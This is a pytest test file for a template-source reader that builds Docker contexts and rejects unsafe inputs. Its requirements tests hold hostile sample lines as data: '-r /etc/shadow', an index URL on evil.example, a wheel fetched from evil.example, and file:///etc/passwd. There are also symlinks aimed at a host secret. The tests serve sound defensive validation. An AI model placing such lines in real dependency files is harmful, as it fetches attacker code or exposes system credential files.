"""Reading a template's directory on the host (fleet/engine/template_source.py), without
Docker: what goes into the image, what is refused, and what changes the version."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from fleet.core.errors import InvalidArgument
from fleet.engine.template_source import implicit_name, read_source

RECIPE = [("Dockerfile", b"FROM x\n"), ("install.sh", b"true\n")]
APP = "from agent_runtime import workflow\n\n@workflow\nasync def hi() -> str:\n    return 'hi'\n"


def _dir(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "agent"
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def test_a_directory_with_one_module_and_its_requirements(tmp_path: Path) -> None:
    root = _dir(
        tmp_path,
        {
            "agents.py": APP,
            "helpers.py": "X = 1\n",
            "requirements.txt": (
                "# tools\ninflection==0.5.1  # titles\n\nhumanize>=4 ; python_version >= '3.8'\n"
            ),
            ".env": "SECRET=1\n",
            ".git/config": "[core]\n",
            "__pycache__/agents.cpython-311.pyc": "",
            "data/prompt.txt": "be brief\n",
        },
    )
    (root / "setup.py").write_text("")
    src = read_source(root, app="agents")
    assert src.target == "agents.py" and src.app == "agents"
    assert src.app_path == "/app/agents.py"
    assert src.requirements == ("inflection==0.5.1", 'humanize>=4; python_version >= "3.8"')
    paths = [f.path for f in src.files]
    assert paths == ["agents.py", "data/prompt.txt", "helpers.py", "requirements.txt", "setup.py"]

    with tarfile.open(fileobj=io.BytesIO(src.context(RECIPE, []))) as tar:
        members = {m.name: m for m in tar.getmembers()}
        assert {"Dockerfile", "install.sh", "requirements.txt", "app/agents.py"} <= set(members)
        assert not [n for n in members if ".env" in n or ".git" in n or ".." in n]
        assert tar.extractfile("requirements.txt").read().decode().splitlines() == list(  # type: ignore[union-attr]
            src.requirements
        )


def test_the_module_is_the_one_candidate_or_named(tmp_path: Path) -> None:
    one = _dir(tmp_path, {"bot.py": APP, "test_bot.py": "", "_private.py": ""})
    assert read_source(one).target == "bot.py"
    pkg = _dir(tmp_path / "p", {"mybot/__init__.py": APP, "mybot/tools.py": ""})
    assert read_source(pkg).target == "mybot"
    assert read_source(pkg).app_path == "/app/mybot"
    two = _dir(tmp_path / "t", {"a.py": APP, "b.py": APP})
    with pytest.raises(InvalidArgument, match=r"exactly one module.*a\.py, b\.py"):
        read_source(two)
    assert read_source(two, app="b.py").target == "b.py"
    with pytest.raises(InvalidArgument, match=r"no module c\.py"):
        read_source(two, app="c")


def test_a_single_file(tmp_path: Path) -> None:
    path = tmp_path / "Hostile Probe.py"
    path.write_text(APP)
    src = read_source(path)
    assert src.target == "Hostile Probe.py" and src.requirements == ()
    assert implicit_name(path) == "hostile-probe"
    assert implicit_name(tmp_path / "my_agent") == "my-agent"
    assert implicit_name(tmp_path / "___") == "app"


def test_links_and_special_files_are_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret")
    root = _dir(tmp_path, {"agents.py": APP})
    (root / "leak.txt").symlink_to(secret)
    with pytest.raises(InvalidArgument, match=r"leak\.txt is a symbolic link"):
        read_source(root)
    (root / "leak.txt").unlink()
    (root / "up").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(InvalidArgument, match="up is a symbolic link"):
        read_source(root)
    (root / "up").unlink()
    os.mkfifo(root / "pipe")
    with pytest.raises(InvalidArgument, match="pipe is not a regular file"):
        read_source(root)
    (root / "pipe").unlink()
    # The directory itself may not be a link either, and a linked .py file is not read.
    link = tmp_path / "link"
    link.symlink_to(root, target_is_directory=True)
    with pytest.raises(InvalidArgument):
        read_source(link)
    (tmp_path / "l.py").symlink_to(root / "agents.py")
    with pytest.raises(InvalidArgument):
        read_source(tmp_path / "l.py")
    assert read_source(root).target == "agents.py"


@pytest.mark.parametrize(
    ("line", "needle"),
    [
        ("-r /etc/shadow", "pip options are not accepted"),
        ("--index-url http://evil.example/simple", "pip options"),
        ("-e ./local", "pip options"),
        ("./local_pkg", "not a package specifier"),
        ("/etc/passwd", "not a package specifier"),
        ("evil @ https://evil.example/evil.whl", "names a URL"),
        ("evil @ file:///etc/passwd", "names a URL"),
    ],
)
def test_requirements_are_package_specifiers_only(tmp_path: Path, line: str, needle: str) -> None:
    root = _dir(tmp_path, {"agents.py": APP, "requirements.txt": f"inflection\n{line}\n"})
    with pytest.raises(InvalidArgument, match=needle):
        read_source(root)


def test_pyproject_dependencies(tmp_path: Path) -> None:
    root = _dir(
        tmp_path,
        {
            "agents.py": APP,
            "pyproject.toml": '[project]\nname = "x"\ndependencies = ["inflection==0.5.1"]\n',
            "requirements.txt": "inflection==0.5.1\nhumanize\n",
        },
    )
    assert read_source(root).requirements == ("inflection==0.5.1", "humanize")
    (root / "pyproject.toml").write_text('[project]\ndependencies = ["x @ file:///etc"]\n')
    with pytest.raises(InvalidArgument, match="names a URL"):
        read_source(root)


def test_the_version_is_the_content(tmp_path: Path) -> None:
    root = _dir(tmp_path, {"agents.py": APP, "requirements.txt": "inflection\n"})
    v1 = read_source(root).version("sha256:base", RECIPE)
    assert len(v1) == 12 and v1 == read_source(root).version("sha256:base", RECIPE)
    os.utime(root / "agents.py", (1, 1))  # times are not content
    assert read_source(root).version("sha256:base", RECIPE) == v1
    assert read_source(root).version("sha256:other", RECIPE) != v1
    assert read_source(root).version("sha256:base", [*RECIPE, ("x", b"")]) != v1
    (root / "agents.py").chmod(0o755)
    v2 = read_source(root).version("sha256:base", RECIPE)
    assert v2 != v1
    (root / "requirements.txt").write_text("inflection==0.5.1\n")
    assert read_source(root).version("sha256:base", RECIPE) not in (v1, v2)


def test_limits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fleet.engine import template_source

    root = _dir(tmp_path, {"agents.py": APP, "big.bin": "x" * 2000})
    monkeypatch.setattr(template_source, "MAX_BYTES", 1000)
    with pytest.raises(InvalidArgument, match="larger than"):
        read_source(root)
    with pytest.raises(InvalidArgument, match="holds no files"):
        read_source(_dir(tmp_path / "e", {".hidden": ""}))
    with pytest.raises(InvalidArgument, match="cannot read"):
        read_source(tmp_path / "missing")
    (tmp_path / "notes.txt").write_text("")
    with pytest.raises(InvalidArgument, match=r"neither a directory nor a \.py file"):
        read_source(tmp_path / "notes.txt")
